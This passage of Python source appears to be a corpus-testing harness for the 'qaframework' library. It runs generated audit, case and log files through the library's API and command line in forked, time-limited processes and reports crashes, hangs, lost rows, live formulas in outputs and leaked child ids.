    from qaframework.errors import QAFrameworkError

    try:
        if item.kind == "audits":
            from qaframework.io import load_audits

            load: Any = load_audits(item.path, item.council, mapping=item.mapping)
        elif item.kind == "cases":
            from qaframework.io import load_cases

            load = load_cases(item.path)
        elif item.kind == "log":
            from qaframework.io import load_activity_log

            load = load_activity_log(item.path)
        else:
            from qaframework.authoring.checking import check_files

            check_files(Path(item.path))
            return {"refused": False}
    except QAFrameworkError as exc:
        return {"refused": True, "error": str(exc).splitlines()[0][:200]}
    except Exception as exc:
        return {"crash": f"API: {_where(exc)}"}
    no_column = Counter()
    for rejection in load.rejected:
        for problem in rejection.problems:
            if problem.column is None:
                no_column["row-level" if ROW_LEVEL.search(problem.reason) else "cell-level"] += 1
                if not ROW_LEVEL.search(problem.reason):
                    no_column[f"example: {problem.reason[:80]}"] += 1
    rejections = [
        (r.row, r.duplicate_of, r.sheet, [(p.column, p.value, p.reason) for p in r.problems])
        for r in load.rejected
    ]
    return {
        "refused": False,
        "rows_read": load.rows_read,
        "accepted": len(load.accepted),
        "rejected": len(load.rejected),
        "problems": sum(len(r.problems) for r in load.rejected),
        # What was accepted and every rejection (row, column, value, reason), as digests:
        # two runs agree on them exactly or not at all, and no child id is written.
        "accepted_sha256": _fingerprint(load.accepted),
        "rejections_sha256": _fingerprint(rejections),
        "no_column": dict(no_column),
        "child_ids": sorted({a.child_id for a in load.accepted})
        if item.kind in ("audits", "cases")
        else [],
    }


def _fingerprint(value: Any) -> str:
    """The SHA-256 of a value's ``repr`` (records are attrs classes: every field shown)."""
    return hashlib.sha256(repr(value).encode("utf-8", "surrogatepass")).hexdigest()


def _cli(*argv: str) -> tuple[int, str, str]:
    from qaframework.cli import main

    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        try:
            status = main(list(argv))
        except SystemExit as exc:
            status = int(exc.code or 0) if not isinstance(exc.code, str) else 2
        except Exception as exc:
            # What escapes the command line is what a user sees as a traceback.
            return -1, out.getvalue(), f"Traceback: {_where(exc)}"
    return status, out.getvalue(), err.getvalue()


def _bug(status: int, err: str) -> bool:
    return status not in (0, 1, 2) or "Traceback" in err or "this is a bug" in err


def _command(item: Entry) -> list[str]:
    mapping = ["--mapping", item.mapping] if item.mapping is not None else []
    if item.kind == "audits":
        return ["audits", "validate", item.council, item.path, *mapping, "--format", "json"]
    if item.kind == "cases":
        return [
            "sample",
            item.council,
            item.path,
            "--method",
            "random",
            "--n",
            "1",
            "--seed",
            "1",
            "--format",
            "csv",
        ]
    if item.kind == "log":
        return ["due", item.council, item.path, "--as-of", AS_OF, "--format", "csv"]
    return ["profile", "check", item.path, "--format", "json"]


@contextlib.contextmanager
def _long_cells() -> Iterator[None]:
    """Outputs may hold an export's long cells: read them whole, and leave the limit the
    library reads exports with as it was."""
    limit = csv.field_size_limit(1 << 30)
    try:
        yield
    finally:
        csv.field_size_limit(limit)


def _live_formulas(paths: Sequence[Path]) -> int:
    """CSV cells beginning with a formula character, and XLSX formula cells."""
    from openpyxl import load_workbook

    found = 0
    for path in paths:
        if path.suffix == ".csv":
            with _long_cells():
                rows = list(csv.reader(io.StringIO(path.read_text("utf-8"), newline="")))
            found += sum(1 for row in rows for cell in row if cell.startswith(TRIGGERS))
        elif path.suffix == ".xlsx":
            book = load_workbook(path)
            for sheet in book.worksheets:
                for row in sheet.iter_rows():
                    found += sum(1 for cell in row if cell.data_type == "f")
    return found


def _csv_output(text: str) -> int:
    lines = text.splitlines()
    if lines and lines[0].startswith("OFFICIAL-SENSITIVE"):
        lines = lines[1:]
    with _long_cells():
        rows = list(csv.reader(io.StringIO("\n".join(lines))))
    return sum(1 for row in rows for cell in row if cell.startswith(TRIGGERS))


def check(item: Entry, checks: dict[str, Callable[..., int | None]]) -> dict[str, Any]:
    """Load one file through the API and the command line, and check what was written."""
    result = _api(item)
    status, out, err = _cli(*_command(item))
    if _bug(status, err):
        result["crash"] = (
            result.get("crash")
            or f"CLI exit {status}: {err.strip().splitlines()[-1][:160] if err.strip() else ''}"
        )
    formulas = _csv_output(out) if item.kind in ("cases", "log") else 0
    published: dict[str, int | None] = {}
    if item.kind == "audits" and item.outputs and result.get("accepted"):
        with tempfile.TemporaryDirectory() as folder:
            mapping = ["--mapping", item.mapping] if item.mapping is not None else []
            status, _, err = _cli(
                "report",
                item.council,
                item.path,
                *mapping,
                "--period",
                PERIOD,
                "--as-of",
                AS_OF,
                "--format",
                "csv",
                "xlsx",
                "md",
                "html",
                "json",
                "--child-level",
                "--no-charts",
                "--out",
                folder,
            )
            if _bug(status, err):
                result["crash"] = (
                    result.get("crash") or f"report exit {status}: {err.strip()[-160:]}"
                )
            written = sorted(p for p in Path(folder).rglob("*") if p.is_file())
            formulas += _live_formulas(written)
            public = [p for p in written if "OFFICIAL-SENSITIVE" not in str(p.relative_to(folder))]
            for name, checker in checks.items():
                published[name] = checker(public, result.get("child_ids", []))
            result["outputs"] = len(written)
    result["formulas"] = formulas
    result["published"] = published
    result.pop("child_ids", None)
    return result


# -- running the corpus --------------------------------------------------------------------


def published_checks() -> dict[str, Callable[..., int | None]]:
    """The checks of published outputs that ``corpus_checks`` provides."""
    sys.path.insert(0, str(HERE))
    try:
        import corpus_checks
    finally:
        sys.path.remove(str(HERE))
    return {
        "child ids in published outputs": corpus_checks.child_ids_in_published,
        "recoverable suppressed cells": corpus_checks.recoverable_suppressed_cells,
    }


def _warm_up() -> None:
    """Import and load everything once, so that each forked check starts warm."""
    import openpyxl  # noqa: F401

    import qaframework.cli
    import qaframework.render
    from qaframework.io import load_audits

    for council in COUNCILS:
        load_audits(EXAMPLES / council / "audits.jsonl", council)
    qaframework.cli.build_parser()


@dataclass
class _Running:
    item: Entry
    pid: int
    pipe: int
    deadline: float
    data: bytearray = field(default_factory=bytearray)


def _start(item: Entry, timeout: float, checks: dict[str, Callable[..., int | None]]) -> _Running:
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:  # the child: check, report, exit without running the parent's cleanup
        os.close(read)
        code = 0
        try:
            resource.setrlimit(resource.RLIMIT_AS, (MEMORY, MEMORY))
            result = check(item, checks)
        except BaseException as exc:
            result = {"crash": f"runner: {_where(exc)}"}
            code = 1
        payload = json.dumps(result).encode()
        with contextlib.suppress(OSError):
            view = memoryview(payload)
            while view:
                view = view[os.write(write, view) :]
        os._exit(code)
    os.close(write)
    return _Running(item, pid, read, time.monotonic() + timeout)


def run(
    items: Iterator[Entry],
    *,
    jobs: int,
    timeout: float,
    on_result: Callable[[Entry, dict[str, Any]], None],
) -> None:
    """Check each file in a process of its own, ``jobs`` at a time, each killed after
    ``timeout`` seconds; ``on_result`` is told each file's result, removed afterwards."""
    _warm_up()
    checks = published_checks()
    running: list[_Running] = []
    pending = iter(items)
    exhausted = False
    while running or not exhausted:
        while not exhausted and len(running) < jobs:
            item = next(pending, None)
            if item is None:
                exhausted = True
                break
            running.append(_start(item, timeout, checks))
        if not running:
            break
        wait = max(0.0, min(r.deadline for r in running) - time.monotonic())
        ready, _, _ = select.select([r.pipe for r in running], [], [], wait)
        now = time.monotonic()
        for job in list(running):
            finished: dict[str, Any] | None = None
            if job.pipe in ready:
                chunk = os.read(job.pipe, 1 << 16)
                if chunk:
                    job.data += chunk
                    continue
                _, status = os.waitpid(job.pid, 0)
                try:
                    finished = json.loads(job.data) if job.data else None
                except ValueError:
                    finished = None
                if finished is None:
                    finished = {"crash": f"check died ({_died(status)})"}
            elif now >= job.deadline:
                os.kill(job.pid, signal.SIGKILL)
                os.waitpid(job.pid, 0)
                finished = {"hang": True}
            if finished is not None:
                os.close(job.pipe)
                running.remove(job)
                on_result(job.item, finished)
                _remove(job.item)


def _died(status: int) -> str:
    if os.WIFSIGNALED(status):
        return f"signal {os.WTERMSIG(status)}"
    return f"exit {os.WEXITSTATUS(status)}"


@dataclass
class Tally:
    """What the corpus found."""

    files: int = 0
    by_format: Counter[str] = field(default_factory=Counter)
    crashes: list[str] = field(default_factory=list)
    hangs: list[str] = field(default_factory=list)
    refused: int = 0
    rows_written: int = 0
    rows_read: int = 0
    rows_lost: list[str] = field(default_factory=list)
    lost_count: int = 0
    rows_gained: int = 0
    rejections: int = 0
    problems: int = 0
    row_level: int = 0
    without_column: list[str] = field(default_factory=list)
    without_column_count: int = 0
    formulas: list[str] = field(default_factory=list)
    formula_count: int = 0
    outputs_checked: int = 0
    published: dict[str, int | None] = field(default_factory=dict)

    def add(self, item: Entry, result: dict[str, Any]) -> None:
        """Count one file's result."""
        name = Path(item.path).name
        self.files += 1
        self.by_format[item.format] += 1
        if result.get("hang"):
            self.hangs.append(name)
            return
        if result.get("crash"):
            self.crashes.append(f"{name}: {result['crash']}")
        if result.get("refused"):
            self.refused += 1
        elif "rows_read" in result:
            read = result["rows_read"]
            self.rejections += result["rejected"]
            self.problems += result["problems"]
            if item.rows is not None:
                self.rows_written += item.rows
                self.rows_read += min(read, item.rows)
                if read < item.rows:
                    self.lost_count += item.rows - read
                    self.rows_lost.append(f"{name}: {item.rows} written, {read} read")
                else:
                    self.rows_gained += read - item.rows
            for key, count in result["no_column"].items():
                if key == "row-level":
                    self.row_level += count
                elif key == "cell-level":
                    self.without_column_count += count
                else:
                    self.without_column.append(f"{name}: {key.removeprefix('example: ')}")
        if result.get("formulas"):
            self.formula_count += result["formulas"]
            self.formulas.append(f"{name}: {result['formulas']}")
        if result.get("outputs"):
            self.outputs_checked += 1
        for check_name, found in result.get("published", {}).items():
            if found is None:
                self.published.setdefault(check_name, None)
            else:
                self.published[check_name] = (self.published.get(check_name) or 0) + found

    def report(self, out: Any = None, examples: int = 5) -> None:
        """Print the figures, with a few examples of each failure (to standard output unless
        ``out``)."""
        out = sys.stdout if out is None else out

        def line(label: str, value: object, found: list[str] | None = None) -> None:
            print(f"{label:<40} {value}", file=out)
            for example in (found or [])[:examples]:
                print(f"    {example}", file=out)

        formats = ", ".join(f"{fmt} {n:,}" for fmt, n in sorted(self.by_format.items()))
        line("files", f"{self.files:,} ({formats})")
        line("refused whole (the library's own error)", f"{self.refused:,}")
        line("crashes", len(self.crashes), self.crashes)
        line("hangs", len(self.hangs), self.hangs)
        line("rows written (where known)", f"{self.rows_written:,}")
        line("rows lost", f"{self.lost_count:,}", self.rows_lost)
        line("rows gained (lines read as rows)", f"{self.rows_gained:,}")
        line("rejected rows (problems)", f"{self.rejections:,} ({self.problems:,})")
        line("rejections without a column", f"{self.without_column_count:,}", self.without_column)
        line("  row-level (JSON not an object, ...)", f"{self.row_level:,}")
        line("outputs written and checked", f"{self.outputs_checked:,}")
        line("live formulas in outputs", f"{self.formula_count:,}", self.formulas)
        for name in ("child ids in published outputs", "recoverable suppressed cells"):
            found = self.published.get(name)
            line(name, "not checked" if found is None else f"{found:,}")

    @property
    def clean(self) -> bool:
        """Whether nothing went wrong (of what is checked)."""
        return not (
            self.crashes
            or self.hangs
            or self.lost_count
            or self.without_column_count
            or self.formula_count
            or any(self.published.values())
        )


# -- each file's outcome, and two runs compared ------------------------------------------

# What a file's check found, as the results file keeps it (no child id, no message text).
_OUTCOME_KEYS = (
    "refused",
    "crash",
    "hang",
    "rows_read",
    "accepted",
    "rejected",
    "problems",
    "accepted_sha256",
    "rejections_sha256",
)


def _digest(name: str | None) -> str | None:
    """The SHA-256 of a regular file's bytes; None for none, a pipe, a directory or a link."""
    if name is None:
        return None
    path = Path(name)
    if path.is_symlink() or not path.is_file():
        return None
    return hashlib.sha256(path.read_bytes()).hexdigest()


def outcome(item: Entry, result: dict[str, Any]) -> dict[str, Any]:
    """One line of a results file: the file (number, name, mutation, digests) and what its
    check found. Made while the file still exists (before it is removed)."""
    found = {key: result[key] for key in _OUTCOME_KEYS if key in result}
    if "error" in result:
        # The refusal's message, as a digest (it may quote a cell), without the folder the
        # file was written in.
        message = result["error"].replace(str(Path(item.path).parent) + os.sep, "")
        found["error_sha256"] = _fingerprint(message)
    return {
        "number": item.number,
        "name": Path(item.path).name,
        "mutation": item.mutation,
        "sha256": _digest(item.path),
        "mapping_sha256": _digest(item.mapping),
        "found": found,
    }


def write_results(path: Path, outcomes: dict[int, dict[str, Any]]) -> None:
    """Write the outcomes a line each, in number order."""
    with path.open("w", encoding="utf-8") as out:
        for number in sorted(outcomes):
            out.write(json.dumps(outcomes[number], sort_keys=True) + "\n")


def read_results(path: Path) -> dict[int, dict[str, Any]]:
    """A results file, by file number."""
    with path.open(encoding="utf-8") as lines:
        return {line["number"]: line for line in map(json.loads, lines) if line}


@dataclass
class Comparison:
    """Two runs' outcomes compared file by file (see :func:`compare`)."""

    compared: int = 0
    only_one: list[int] = field(default_factory=list)
    library: list[str] = field(default_factory=list)
    corpus: list[str] = field(default_factory=list)
    totals: dict[str, tuple[int, int]] = field(default_factory=dict)


def compare(old: dict[int, dict[str, Any]], new: dict[int, dict[str, Any]]) -> Comparison:
    """The files whose outcome differs: ``library`` where both runs read the same bytes
    (the library's behaviour changed), ``corpus`` where the file itself differs; and the
    rows read, accepted, rejected and problems of the files both runs checked."""
    found = Comparison()
    found.only_one = sorted(old.keys() ^ new.keys())
    sums = {key: [0, 0] for key in ("rows_read", "accepted", "rejected", "problems")}
    for number in sorted(old.keys() & new.keys()):
        before, after = old[number], new[number]
        found.compared += 1
        for key, pair in sums.items():
            pair[0] += before["found"].get(key, 0)
            pair[1] += after["found"].get(key, 0)
        if before["found"] == after["found"]:
            continue
        line = f"{after['name']}: {before['found']} -> {after['found']}"
        same = (before["sha256"], before["mapping_sha256"]) == (
            after["sha256"],
            after["mapping_sha256"],
        )
        (found.library if same else found.corpus).append(line)
    found.totals = {key: (pair[0], pair[1]) for key, pair in sums.items()}
    return found


def print_comparison(found: Comparison, out: Any = None) -> int:
    """Print a comparison (to standard output unless ``out``); 1 when the library's
    behaviour changed on some file, else 0."""
    out = sys.stdout if out is None else out
    print(f"files in both runs: {found.compared:,}; in one only: {len(found.only_one):,}", file=out)
    for key, (before, after) in found.totals.items():
        print(f"  {key:<10} {before:>9,} -> {after:,}", file=out)
    print(f"outcome changed, same file (the library moved): {len(found.library):,}", file=out)
    for line in found.library:
        print(f"    {line}", file=out)
    print(f"outcome changed, file changed (the corpus moved): {len(found.corpus):,}", file=out)
    for line in found.corpus:
        print(f"    {line}", file=out)
    return 1 if found.library else 0


def corpus(count: int, folder: Path, seed: int = 0, start: int = 0) -> Iterator[Entry]:
    """Files ``start`` to ``start + count`` of the corpus, each written into ``folder``
    just before it is checked."""
    sources = seeds()
    for number in range(start, start + count):
        yield entry(number, folder, seed, sources)


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--count", type=int, default=10_000, help="how many files (default 10,000)")
    parser.add_argument("--start", type=int, default=0, help="the number of the first file")
    parser.add_argument("--seed", type=int, default=0)
    parser.add_argument("--jobs", type=int, default=os.cpu_count() or 1)
    parser.add_argument("--timeout", type=float, default=30.0, help="seconds per file")
    parser.add_argument("--write", metavar="DIR", help="write the files into DIR and stop")
    parser.add_argument("--results", metavar="FILE", help="write each file's outcome (JSON lines)")
    parser.add_argument(
        "--compare",
        nargs=2,
        metavar=("OLD", "NEW"),
        help="list the files whose outcome differs between two --results files, and stop",
    )
    args = parser.parse_args(argv)
    if args.compare:
        old, new = (read_results(Path(name)) for name in args.compare)
        return print_comparison(compare(old, new))
    if args.write:
        folder = Path(args.write)
        folder.mkdir(parents=True, exist_ok=True)
        for _ in corpus(args.count, folder, args.seed, args.start):
            pass
        print(f"wrote {args.count:,} files into {folder}")
        return 0
    tally = Tally()
    outcomes: dict[int, dict[str, Any]] = {}

    def on_result(item: Entry, result: dict[str, Any]) -> None:
        tally.add(item, result)
        if args.results:
            outcomes[item.number] = outcome(item, result)

    began = time.monotonic()
    with tempfile.TemporaryDirectory(prefix="qaframework-corpus-") as folder:
        run(
            corpus(args.count, Path(folder), args.seed, args.start),
            jobs=args.jobs,
            timeout=args.timeout,
            on_result=on_result,
        )
    if args.results:
        write_results(Path(args.results), outcomes)
    tally.report()
    print(f"{'seconds':<40} {time.monotonic() - began:,.0f}")
    return 0 if tally.clean else 1


if __name__ == "__main__":
    sys.exit(main())
